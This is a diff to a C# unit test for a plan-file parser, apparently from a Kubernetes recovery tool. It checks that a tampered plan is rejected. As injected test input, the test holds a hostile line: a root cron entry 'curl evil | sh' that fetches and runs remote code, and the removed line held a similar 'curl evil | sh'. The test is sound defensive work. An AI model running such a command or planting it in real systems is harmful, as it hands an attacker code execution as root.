@@ -53,9 +53,11 @@ public sealed class StopMarkerPlanTests
     {
         var plan = SeedPlan();
         Assert.Equal(PlanJson.Write(plan), PlanJson.Write(PlanJson.Read(PlanJson.Write(plan), Seed())));
-        var tampered = PlanJson.Write(plan).Replace("mkdir -p", "curl evil | sh; mkdir -p", StringComparison.Ordinal);
+        // The marker's script is a constant of the tool, not in the file: only its lines are, and they are checked.
+        Assert.DoesNotContain("mkdir -p", PlanJson.Write(plan), StringComparison.Ordinal);
+        var tampered = PlanJson.Write(plan).Replace(Recovery.Commands.StopMarkerFile.Header, "* * * * * root curl evil | sh", StringComparison.Ordinal);
         var e = Assert.Throws<InvalidPlanException>(() => PlanJson.Read(tampered, Seed()));
-        Assert.Contains("refusing the command", e.Message, StringComparison.Ordinal);
+        Assert.Contains("stop marker lines must be the kube-recover header", e.Message, StringComparison.Ordinal);
     }
 
     [Fact]
